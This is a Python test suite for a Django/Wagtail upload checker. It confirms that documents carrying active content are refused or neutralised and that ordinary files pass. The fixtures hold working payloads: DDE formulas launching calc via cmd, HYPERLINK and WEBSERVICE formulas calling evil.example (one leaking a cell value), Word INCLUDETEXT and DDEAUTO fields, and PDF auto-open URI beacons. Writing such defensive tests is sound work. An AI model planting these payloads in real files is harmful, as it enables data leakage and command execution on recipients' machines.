"""Active content that slipped through: workbook formulas that fetch or run (HYPERLINK, WEBSERVICE,
DDE), formulas in semicolon CSVs and tab-separated text, Word fields that bring in other files
(INCLUDETEXT, INCLUDEPICTURE, LINK, codes split over runs or built by nested fields), OpenDocument
sections read from elsewhere, PDF actions run on opening (/OpenAction, /AA with /URI, chained /Next).

Each is refused by the one check every upload route uses (the admin's single and multiple upload,
the importer), or stored neutralised; ordinary files of each kind are accepted unchanged."""

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject
from wagtail.documents import get_document_model

from tests.security.test_dangerous_uploads import ALLOWED, W, docx_with
from tests.uploads import samples
from uploads.refusals import UploadRefused
from uploads.services import check_upload, stored_bytes

SHEET = (
    '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    '<sheetData><row r="1"><c r="A1"><f>{formula}</f><v>0</v></c></row></sheetData></worksheet>'
)


def xlsx_with_formula(formula: str) -> bytes:
    return samples.office_zip("xlsx", {"xl/worksheets/sheet1.xml": SHEET.format(formula=formula).encode()})


def xlsx_with_defined_name(formula: str) -> bytes:
    book = f'<workbook><definedNames><definedName name="x">{formula}</definedName></definedNames></workbook>'
    return samples.office_zip("xlsx", {"xl/workbook.xml": book.encode()})


def field_runs(*pieces: str, nested_first: bool = False) -> str:
    """A complex field whose code is split over runs, optionally starting with a nested QUOTE field."""
    begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    end = '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    code = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces)
    nested = f"{begin}<w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r>{end}" if nested_first else ""
    body = f"<w:p>{begin}{nested}{code}{end}</w:p>"
    return f'<?xml version="1.0"?><w:document {W}><w:body>{body}</w:body></w:document>'


def simple_field(code: str) -> str:
    body = f'<w:p><w:fldSimple w:instr="{code}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
    return f'<?xml version="1.0"?><w:document {W}><w:body>{body}</w:body></w:document>'


def _pdf(build) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    build(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _uri_action(writer: PdfWriter, url: str = "https://evil.example/beacon"):
    action = DictionaryObject({NameObject("/S"): NameObject("/URI"), NameObject("/URI"): TextStringObject(url)})
    return writer._add_object(action)


def pdf_open_action_uri() -> bytes:
    return _pdf(lambda w: w._root_object.__setitem__(NameObject("/OpenAction"), _uri_action(w)))


def pdf_page_aa_uri() -> bytes:
    def build(writer):
        writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): _uri_action(writer)})

    return _pdf(build)


def pdf_chained_uri() -> bytes:
    """Opens at the first page (harmless), then /Next runs a web address."""

    def build(writer):
        go = DictionaryObject(
            {
                NameObject("/S"): NameObject("/GoTo"),
                NameObject("/D"): ArrayObject([writer.pages[0].indirect_reference, NameObject("/Fit")]),
                NameObject("/Next"): _uri_action(writer),
            }
        )
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(go)

    return _pdf(build)


def pdf_open_at_page() -> bytes:
    def build(writer):
        destination = ArrayObject([writer.pages[0].indirect_reference, NameObject("/XYZ"), NumberObject(0)])
        writer._root_object[NameObject("/OpenAction")] = destination

    return _pdf(build)


ODT_SECTION = (
    b'<office:document-content><office:body><office:text><text:section text:name="s">'
    b'<text:section-source xlink:href="https://evil.example/part.odt"/></text:section></office:text>'
    b"</office:body></office:document-content>"
)


def docx_field(*pieces: str, part: str = "word/document.xml", nested_first: bool = False):
    return lambda: docx_with({part: field_runs(*pieces, nested_first=nested_first)})


def sheet(formula: str):
    return lambda: xlsx_with_formula(formula)


REFUSED = {
    "xlsx HYPERLINK formula": ("s.xlsx", sheet('HYPERLINK("https://evil.example/?"&amp;B2,"x")'), "formula"),
    "xlsx WEBSERVICE formula": ("s.xlsx", sheet('_xlfn.WEBSERVICE("https://evil.example")'), "formula"),
    "xlsx lower-case formula": ("s.xlsx", sheet('hyperlink("https://evil.example")'), "formula"),
    "xlsx DDE formula": ("s.xlsx", sheet("cmd|&apos; /C calc&apos;!A0"), "formula"),
    "xlsx defined name": ("s.xlsx", lambda: xlsx_with_defined_name('WEBSERVICE("https://e.example")'), "formula"),
    "docx INCLUDETEXT": ("a.docx", docx_field('INCLUDETEXT "https://evil.example/x.docx"'), "external-field"),
    "docx INCLUDEPICTURE": ("a.docx", docx_field('INCLUDEPICTURE "http://evil.example/p.png" \\d'), "external-field"),
    "docx LINK": ("a.docx", docx_field('LINK Excel.Sheet.12 "\\\\host\\s.xlsx" ""'), "external-field"),
    "docx code split over runs": ("a.docx", docx_field(" DD", "EAUTO c:\\x.exe"), "dde"),
    "docx keyword from a nested field": ("a.docx", docx_field(' "c:\\x.exe"', nested_first=True), "dde"),
    "docx simple INCLUDETEXT field": (
        "a.docx",
        lambda: docx_with({"word/document.xml": simple_field("INCLUDETEXT &quot;https://evil.example&quot;")}),
        "external-field",
    ),
    "docx field in a header": (
        "a.docx",
        docx_field("INCLUDEPICTURE http://evil.example/p.png", part="word/header1.xml"),
        "external-field",
    ),
    "odt section read from a site": (
        "a.odt",
        lambda: samples.odt_file(extra={"content.xml": ODT_SECTION}),
        "external-field",
    ),
    "pdf /OpenAction /URI": ("a.pdf", pdf_open_action_uri, "pdf-auto-action"),
    "pdf page /AA /URI": ("a.pdf", pdf_page_aa_uri, "pdf-auto-action"),
    "pdf /OpenAction chained /Next /URI": ("a.pdf", pdf_chained_uri, "pdf-auto-action"),
    "csv active formula after a semicolon": (
        "a.csv",
        lambda: b'stage,note\nplan,"seen; =WEBSERVICE(""https://evil.example"")"\n',
        "formula",
    ),
    "tab-separated txt with DDE after a comma": (
        "a.txt",
        lambda: b"stage\tnote\nplan\tok, -2+cmd|' /C calc'!A0\n",
        "formula",
    ),
}


@pytest.mark.parametrize("case", list(REFUSED))
def test_active_content_is_refused(case):
    name, build, code = REFUSED[case]
    data = build()
    with pytest.raises(UploadRefused) as refused:
        check_upload(io.BytesIO(data), name, len(data), ALLOWED, source="test")
    assert refused.value.code == code


@pytest.mark.parametrize(
    ("name", "build"),
    [
        ("sheet.xlsx", lambda: xlsx_with_formula("SUM(A1:A3)")),
        ("sheet.xlsx", lambda: xlsx_with_formula('IF(B2&gt;3,"review","")')),
        ("a.docx", lambda: docx_with({"word/document.xml": field_runs("PA", "GE")})),
        ("a.docx", lambda: docx_with({"word/document.xml": field_runs('HYPERLINK "https://www.example.org/"')})),
        ("a.docx", lambda: docx_with({"word/document.xml": field_runs("IF ", "1 = 1 yes no")})),
        ("a.docx", lambda: docx_with({"word/document.xml": simple_field("MERGEFIELD Stage")})),
        ("a.pdf", pdf_open_at_page),
        ("a.csv", lambda: b"stage;count\nplan;-3\nreview;- item\n"),
        ("a.txt", lambda: b"Notes\n- call the school (done)\n- see the hyperlink (below)\n= heading =\n"),
    ],
)
def test_ordinary_files_of_each_kind_are_accepted(name, build):
    data = build()
    check_upload(io.BytesIO(data), name, len(data), ALLOWED, source="test")


@pytest.mark.parametrize(
    ("name", "data", "expected"),
    [
        # Semicolon CSV (Excel in many European locales): cells split on ';' and neutralised.
        ("a.csv", b"stage;note\nplan;=HYPERLINK(1)\nreview;-3\n", "stage;note\nplan;'=HYPERLINK(1)\nreview;-3\n"),
        # Excel's sep= line decides the separator, as Excel does.
        ("a.csv", b"sep=;\nstage;note\nplan;@SUM(A1)\n", "sep=;\nstage;note\nplan;'@SUM(A1)\n"),
        # Tab-separated text is a table: formulas neutralised, numbers and a lone dash kept.
        (
            "a.txt",
            b"stage\tnote\tn\nplan\t+A1*2\t-3\nreview\t-\t4\n",
            "stage\tnote\tn\nplan\t'+A1*2\t-3\nreview\t-\t4\n",
        ),
    ],
)
def test_formulas_in_semicolon_and_tab_separated_files_are_stored_as_text(name, data, expected):
    check_upload(io.BytesIO(data), name, len(data), ALLOWED, source="test")
    assert stored_bytes(data, name).decode("utf-8") == expected


def test_prose_text_files_are_stored_unchanged():
    data = b"Notes\n- call the school\n+ agreed\n@team to follow up\n"
    assert stored_bytes(data, "notes.txt") is data


@pytest.mark.django_db
@pytest.mark.parametrize("case", ["xlsx HYPERLINK formula", "docx INCLUDETEXT", "pdf /OpenAction /URI"])
def test_the_admin_refuses_them_with_one_plain_message_and_stores_nothing(admin_client, case):
    name, build, _code = REFUSED[case]
    response = admin_client.post(
        reverse("wagtaildocs:add"),
        {"title": "Synthetic", "collection": 1, "file": SimpleUploadedFile(name, build())},
    )
    html = response.content.decode()
    assert "This file was refused" in html
    assert "File extension" not in html
    assert get_document_model().objects.count() == 0
